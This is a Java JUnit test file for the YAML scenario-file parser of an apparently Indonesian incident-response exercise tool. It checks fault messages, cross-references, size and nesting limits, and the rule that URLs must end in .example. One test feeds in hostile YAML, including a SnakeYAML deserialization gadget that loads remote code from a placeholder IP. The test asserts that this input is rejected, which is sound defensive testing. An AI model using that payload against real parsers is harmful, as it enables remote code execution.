package kentongan.exercise;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ScenarioFileTest {
  @Test
  void the_three_scenarios_come_with_the_product() {
    assertThat(Scenarios.shipped().all())
        .extracting(Scenario::id)
        .containsExactly("situs-terganggu", "internet-terputus", "situs-diretas");
  }

  @ParameterizedTest
  @ValueSource(strings = {"situs-terganggu", "internet-terputus", "situs-diretas"})
  void each_has_an_example_script_that_fits_it(String name) {
    var scenario = Scenarios.shipped().find(name).orElseThrow();

    var read = ScriptFile.read("s.yaml", Scenarios.exampleScript(name).orElseThrow(), scenario);

    assertThat(read).isInstanceOf(ScriptFile.Reading.Good.class);
  }

  @Test
  void all_faults_are_told_at_once_each_with_its_line() {
    assertThat(
            faults(
                """
                id: latihan-kecil
                title: {id: Kecil, en: Small}
                briefing: {id: Kerjakan., en: Do it.}
                lasts: 10 menit
                colour: red
                assets:
                  - {id: situs, name: Situs, office: "51.03", kind: website, url: "https://situs.go.id/", criticality: high, hosting: office}
                injects:
                  - id: padam
                    at: 1m
                    title: {id: Padam, en: Dark}
                    kind: explode
                """))
        .extracting(Fault::toString)
        .containsExactly(
            "kecil.yaml:4: lasts: '10 menit' (expected: as in 90s, 15m, 2h or 00:03:00)",
            "kecil.yaml:7: url: 'https://situs.go.id/' (expected: an http address whose host ends"
                + " in .example)",
            "kecil.yaml:12: kind: 'explode' (expected: checks-fail, silence, page-changes,"
                + " log-lines or tell)",
            "kecil.yaml:5: colour: not known here (known: assets, briefing, expectations, id,"
                + " injects, lasts, players, speed, stations, title)");
  }

  @Test
  void what_one_part_names_another_must_be() {
    var text = small("situs-lain", "padam", "15m");

    assertThat(faults(text))
        .extracting(Fault::toString)
        .containsExactly(
            "kecil.yaml:10: inject padam: asset: 'situs-lain' (expected: one of [situs])");
  }

  @Test
  void an_expectation_may_lean_only_on_what_stands_before_it() {
    assertThat(
            faults(
                small("situs", "padam", "15m")
                    .replace("after: inject padam", "after: expectation diterima")))
        .extracting(Fault::message)
        .containsExactly(
            "expectation diterima: after expectation: 'diterima' (expected: one of [])");
  }

  @Test
  void no_scenario_names_a_real_site() {
    assertThat(
            faults(
                small("situs", "padam", "15m")
                    .replace("https://situs.latihan.example/", "https://badung.bawaslu.go.id/")))
        .singleElement()
        .satisfies(fault -> assertThat(fault.message()).contains("ends in .example"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "- a\n- b\n",
        "id: [",
        "a: &x [1,2]\nb: *x\n",
        "id: x\nid: y\n",
        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1/\"]]",
        "? [a, b]\n: c\n"
      })
  void hostile_or_broken_yaml_gets_a_fault_and_nothing_else(String text) {
    assertThat(faults(text)).isNotEmpty();
  }

  @Test
  void a_file_that_is_too_long_is_not_read() {
    assertThat(faults("#".repeat(Sheet.MOST + 1)))
        .extracting(Fault::toString)
        .containsExactly("kecil.yaml:0: 262145 characters (expected: at most 262144)");
  }

  @Test
  void deep_nesting_is_refused() {
    assertThat(faults("a: " + "[".repeat(5_000))).isNotEmpty();
  }

  @Test
  void a_script_names_who_is_in_the_scenario_and_what_can_be_done() {
    var scenario = Scenarios.shipped().find("situs-terganggu").orElseThrow();

    var read =
        ScriptFile.read(
            "s.yaml",
            """
            scenario: situs-terganggu
            acts:
              - {at: 3m, who: siapa, act: acknowledge}
              - {at: 4m, who: petugas, act: panic}
              - {at: 00:05:00, who: petugas, act: close, verdict: real, why: pulih}
            """,
            scenario);

    assertThat(((ScriptFile.Reading.Faulty) read).faults())
        .extracting(Fault::line)
        .containsExactly(3, 4);
  }

  @Test
  void spans_of_time_are_written_in_two_ways() {
    assertThat(List.of("90s", "15m", "2h", "00:03:00"))
        .map(Times::span)
        .containsExactly(
            Duration.ofSeconds(90),
            Duration.ofMinutes(15),
            Duration.ofHours(2),
            Duration.ofMinutes(3));
  }

  private static List<Fault> faults(String text) {
    return ScenarioFile.read("kecil.yaml", text) instanceof ScenarioFile.Reading.Faulty(var faults)
        ? faults
        : List.of();
  }

  static String small(String asset, String inject, String within) {
    return """
    id: latihan-kecil
    title: {id: Kecil, en: Small}
    briefing: {id: Kerjakan., en: Do it.}
    lasts: 30m
    assets:
      - {id: situs, name: Situs, office: "51.03", kind: website, url: "https://situs.latihan.example/", criticality: high, hosting: office}
    stations:
      - {id: agen, office: "51.03", host: srv, watches: [situs]}
    injects:
      - id: %s
        at: 1m
        title: {id: Padam, en: Dark}
        kind: checks-fail
        asset: %s
        reason: timeout
        for: 10m
    players:
      - {id: petugas, title: {id: Petugas, en: Officer}, office: "51.03", place: on-duty, may: viewer responder}
      - {id: pimpinan, title: {id: Pimpinan, en: Head}, office: "00", place: on-duty, may: viewer responder commander}
    expectations:
      - id: diterima
        title: {id: Diterima, en: Acknowledged}
        deed: acknowledge
        within: %s
        after: inject padam
    """
        .formatted(inject, asset, within);
  }
}
